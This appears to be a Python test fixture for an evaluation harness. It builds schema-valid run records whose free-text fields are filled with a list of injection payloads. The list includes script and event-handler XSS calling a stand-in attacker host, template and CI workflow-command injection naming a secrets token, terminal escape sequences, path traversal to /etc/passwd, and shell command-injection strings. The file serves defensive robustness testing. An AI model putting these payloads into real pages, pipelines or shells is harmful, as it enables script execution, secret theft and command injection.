"""Records that are valid and hostile: every text that the schema leaves free is an attack."""

from __future__ import annotations

import itertools
import json
from typing import TYPE_CHECKING, Any

from harness import plan, schema
from harness.model import Trial, Verdict
from harness.record import Writer, result_from_json

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping
    from pathlib import Path

#: Does something wherever it runs, in a way that shows afterwards.
RUN = "document.documentElement.dataset.owned='1';fetch('http://attacker.invalid/ran')"

ATTACKS = (
    f"</script><script>{RUN}</script>",
    f'"><img src="http://attacker.invalid/x.png" onerror="{RUN}">',
    f"javascript:{RUN}",
    "<!--<script>",
    "]]></style><style>*{background:url(http://attacker.invalid/style)}</style>",
    f"' onmouseover={RUN} '",
    f"<svg onload={RUN}><base href=http://attacker.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://attacker.invalid/moved'>",
    "</pre></code></title><iframe srcdoc='<script>parent.document.title=1</script>'>",
    "{{ 7 * 7 }}{% raw %}${{ secrets.GITHUB_TOKEN }}",
    "\u2028\u2029\u202eright to left",
    "\x1b]0;pwned\x07\x1b[2J\x9b31m\x08\r\x7f\0",
    "\udfff lone \ud800",
    "\n::set-output name=status::0\n  ::add-mask::a\n##[error]no ##vso[task.setvariable]x",
    "[x](javascript:y) ![y](http://attacker.invalid/y.png) ```\n# heading | cell | `\n</details>",
    "../../../../../tmp/attacker ~ \\..\\ /etc/passwd",
    "'; touch /tmp/attacker; $(touch /tmp/attacker) `touch /tmp/attacker` '",
)


class Hostile:
    """Makes values that fit the schema, each text of which is every attack, beginning with another one."""

    def __init__(self, first: int = 0) -> None:
        self._turn = itertools.count(first)

    def text(self) -> str:
        """A text that no other is equal to."""
        turn = next(self._turn)
        place = turn % len(ATTACKS)
        return " ".join([*ATTACKS[place:], *ATTACKS[:place], str(turn)])

    def name(self) -> str:
        """A text that may be a part of a scenario's id."""
        return self.text().replace("/", "\\")

    def value(self, name: str) -> Any:  # noqa: ANN401 - any JSON value
        """A value of one of the schema's definitions, with every field that it may have."""
        return self._first(schema.definitions()[name])

    def _first(self, described: Mapping[str, Any]) -> Any:  # noqa: ANN401 - likewise
        return next(self._alternatives(described))

    def _alternatives(self, described: Mapping[str, Any]) -> Iterator[Any]:
        """A value for each of the things that may stand in a place."""
        if "$ref" in described:
            yield from self._alternatives(
                schema.definitions()[described["$ref"].rpartition("/")[2]]
            )
        elif "oneOf" in described:
            for each in described["oneOf"]:
                if "$text" not in each.get("properties", ()):  # such references are the writer's
                    yield from self._alternatives(each)
        elif "const" in described or "enum" in described:
            yield from [described["const"]] if "const" in described else described["enum"][:1]
        else:
            kinds = described["type"]
            for kind in [kinds] if isinstance(kinds, str) else kinds:
                yield self._of_kind(kind, described)

    def _of_kind(self, kind: str, described: Mapping[str, Any]) -> object:
        match kind:
            case "string":
                return self._string(described)
            case "object":
                return self._object(described)
            case "array":
                items = described.get("items", {"type": "string"})
                found = list(self._alternatives(items))
                return (found * 2)[: described.get("maxItems", len(found))]
            case "null":
                return None
            case _:
                return kind == "boolean" or 1

    def _string(self, described: Mapping[str, Any]) -> str:
        if "pattern" not in described:
            return self.text()
        return f"{self.name()}/{self.name()}" if "/" in described["pattern"] else "0123456789abcdef"

    def _object(self, described: Mapping[str, Any]) -> dict[str, Any]:
        made = {name: self._first(each) for name, each in described.get("properties", {}).items()}
        others = described.get("additionalProperties", True)
        names = self._first(described.get("propertyNames", {"type": "string"}))
        if others is True:
            made[self.text()] = {self.text(): [self.text(), float("nan")]}
        elif others is not False:
            made[names] = self._first(others)
        return made


def write(path: Path, first: int = 0) -> Path:
    """Write a record with one trial for each verdict, by the writer of runs.

    Its trials are always the same; what is said of them depends on `first`.
    """
    names, hostile = Hostile(), Hostile(1000 + first)
    planned = [names.value("trial") for _ in Verdict]
    on = planned[0]["implementation"]
    for trial in planned:
        trial["implementation"] = on
    header = hostile.value("header")
    for name in "record", "format", "shard":
        del header[name]
    header["plan"] = planned
    header["plan_digest"] = plan.digest(Trial(**each) for each in planned)
    header["scenarios"] = {each["scenario"]: hostile.value("scenario") for each in planned}
    header["implementations"] = {on: next(iter(header["implementations"].values()))}
    writer = Writer(path, header)
    verdicts = list(Verdict)
    for place, trial in enumerate(planned):
        result = hostile.value("result")
        del result["record"]
        result["trial"] = trial
        result["judgement"]["verdict"] = verdicts[(place + first) % len(verdicts)]
        # The schema says of an expected story only that it is a text.
        result["expected"] = f"x = {' '.join(hostile.text().split())}"
        writer.add(result_from_json(json.loads(json.dumps(result))))
    writer.close({"finished": hostile.text(), "seconds": 1.5})
    return path
